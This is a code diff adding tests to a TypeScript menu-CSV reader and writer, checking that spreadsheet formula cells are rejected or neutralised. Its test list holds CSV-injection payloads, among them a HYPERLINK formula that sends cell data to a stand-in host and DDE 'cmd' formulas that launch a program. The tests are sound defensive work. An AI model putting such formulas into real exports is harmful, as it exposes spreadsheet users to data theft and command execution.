@@ -1,5 +1,6 @@
 import { describe, expect, it } from "@jest/globals";
-import { keyOfName, readMenuCsv } from "./menu-csv";
+import fc from "fast-check";
+import { csvText, keyOfName, readMenuCsv } from "./menu-csv";
 
 const rowOf = (text: string) => {
   const { products, faults } = readMenuCsv("menu.csv", text, "de");
@@ -84,6 +85,81 @@ describe("a menu as a spreadsheet", () => {
   it("is told of by the line of the file, whatever stands in cells", () => {
     const text = 'group;name;description;picture;price\nsuppe;A;"two\nlines";/a.avif;1\nsuppe;B;x;/b.avif;-2';
     expect(readMenuCsv("menu.csv", text, "de").faults).toMatchObject([{ line: 4 }]);
+  });
+
+  /** https://owasp.org/www-community/attacks/CSV_Injection and https://book.hacktricks.xyz/pentesting-web/formula-csv-doc-latex-ghostscript-injection */
+  const formulas = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-B2",
+    "+$A$1*2",
+    "-SUM(A1:A9)",
+    "-1-1",
+    "=IMPORTXML(CONCAT(A1),B1)",
+    "＝1+1",
+    "＠SUM(1)",
+  ];
+  const csvOf = (description: string): string =>
+    `group;name;description;picture;price\nsuppe;A;${description};/a.avif;1`;
+  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
+
+  it.each(formulas)("does not take the formula %s for a text, unless an apostrophe says so", (text) => {
+    expect(readMenuCsv("menu.csv", csvOf(quoted(text)), "de").faults).toMatchObject([{ line: 2 }]);
+    expect(rowOf(csvOf(quoted(`'${text}`)))?.product.description).toBe(text);
+  });
+
+  it.each(["-50 % on Mondays", "+ Käse", "- Cola (0,5 l)", "-18", "+1", "— mit Dill", "'s Gravenhage", "a=b"])(
+    "takes the words %s for what they are",
+    (text) => expect(rowOf(csvOf(text))?.product.description).toBe(text),
+  );
+
+  it("is written so that no spreadsheet reckons, and read back as it was", () => {
+    const sign = fc.constantFrom(
+      "=",
+      "+",
+      "-",
+      "@",
+      "\t",
+      "\r",
+      "'",
+      "＝",
+      "＋",
+      "－",
+      "＠",
+      ";",
+      '"',
+      "\n",
+      " ",
+      "1",
+      "x",
+      "|",
+      "!",
+    );
+    const written = (text: string) =>
+      csvText(
+        ["group", "name", "description", "picture", "price"],
+        [{ group: "suppe", name: "A", description: text, picture: "/a.avif", price: "-1" }],
+      );
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.oneof(sign, fc.string({ minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 12 }),
+        (text) => {
+          const [cell = ""] = /(?<=suppe;A;)(?:"(?:[^"]|"")*"|[^;]*)/.exec(written(text)) ?? [];
+          const shown = cell.replace(/^"/, "");
+          const isNumber = /^[+-][\d.,]+$/.test(text);
+          const isInert = isNumber || !/^[=+\-@\t\r＝＋－＠]/.test(shown);
+          const { products } = readMenuCsv("menu.csv", written(text).replace(";-1\n", ";1\n"), "de");
+          return isInert && products[0]?.product.description === text;
+        },
+      ),
+      { numRuns: 1_000 },
+    );
+    expect(written("x")).toContain(";-1\n");
   });
 
   it("makes keys of names", () => {
